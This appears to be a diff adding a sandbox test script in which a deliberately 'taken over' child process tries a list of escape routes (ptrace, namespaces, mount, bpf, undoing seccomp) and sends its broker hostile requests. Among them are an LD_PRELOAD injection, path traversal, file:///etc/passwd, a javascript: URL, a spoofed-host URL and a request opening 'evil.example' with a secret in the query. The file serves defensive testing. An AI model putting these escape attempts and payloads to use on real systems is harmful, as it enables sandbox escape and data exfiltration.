@@ -1,0 +1,71 @@
+"""A window that has been taken over: it tries everything against its porter, then tells the test.
+
+It is sealed as the real window is, because the sealing comes before anything that could be taken
+over. Its results go to the standard output as JSON.
+"""
+
+import json
+import os
+import socket
+import sys
+
+from runner.child.begin import begin_front_end
+
+ROUTES = (
+    "tcp4", "tcp6", "udp4", "tcp fast open", "mptcp", "raw packet", "netlink", "vsock", "raw call",
+    "io_uring", "program", "fork", "spawn", "new process by clone3", "ptrace parent", "read parent",
+    "write parent", "memory of parent", "environment of parent", "descriptors of parent",
+    "signal parent", "signal everyone", "signal by thread", "namespace of parent",
+    "steal a descriptor", "new network namespace", "new user namespace", "mount", "bpf",
+    "outlive the parent", "type into the terminal", "undo seccomp",
+)  # fmt: skip
+
+REQUESTS = {
+    "unlisted program": {"type": "Start", "number": 1, "kind": "/bin/true", "readable": [], "options": {}},
+    "another window": {"type": "Start", "number": 2, "kind": "window", "readable": [], "options": {}},
+    "its own confirmation": {"type": "Start", "number": 3, "kind": "confirm", "readable": [], "options": {}},
+    "a command": {"type": "Run", "number": 4, "command": "/bin/true"},
+    "options of a program": {"type": "Start", "number": 5, "kind": "echo", "readable": [], "options": {"LD_PRELOAD": "/x"}},
+    "extra fields": {"type": "Start", "number": 6, "kind": "echo", "readable": [], "options": {}, "environment": {}},
+    "relative path": {"type": "Start", "number": 7, "kind": "echo", "readable": ["../x"], "options": {}},
+    "file address": {"type": "OpenAddress", "number": 8, "url": "file:///etc/passwd"},
+    "script address": {"type": "OpenAddress", "number": 9, "url": "javascript:alert(1)"},
+    "user in address": {"type": "OpenAddress", "number": 10, "url": "https://good.example@evil.example/"},
+    "option as address": {"type": "OpenAddress", "number": 11, "url": "--help"},
+    "signal to others": {"type": "End", "number": 1, "hard": True},
+}  # fmt: skip
+
+
+def main() -> int:
+    begin_front_end()
+    from tests.support import routes
+
+    table = routes.table(routes.Targets())
+    results = {name: routes.outcome(table[name]) for name in ROUTES}
+    porter = socket.socket(fileno=int(os.environ["LIGHTWELL_PORTER_FD"]))
+    porter.settimeout(5)
+    for name, request in REQUESTS.items():
+        if name != "signal to others":
+            results[name] = _answer(porter, json.dumps(request).encode())
+    results["noise"] = _answer(porter, b"\xff" * 1000)
+    results["nesting"] = _answer(porter, b"[" * 100_000)
+    results["own address"] = _answer(
+        porter, b'{"type": "OpenAddress", "number": 20, "url": "https://evil.example/?chat=secret"}'
+    )
+    print(json.dumps(results))
+    return 0
+
+
+def _answer(porter: socket.socket, datagram: bytes) -> str:
+    """Sends a request and returns the kind and code of the answer to it."""
+    porter.send(datagram)
+    while True:
+        fields = json.loads(porter.recv(1 << 20))
+        if fields["type"] in ("NotDone", "Started"):
+            return f"{fields['type']} {fields.get('code', '')}".strip()
+        if fields["type"] == "AddressAnswer":
+            return "opened" if fields["opened"] else "declined"
+
+
+if __name__ == "__main__":
+    sys.exit(main())
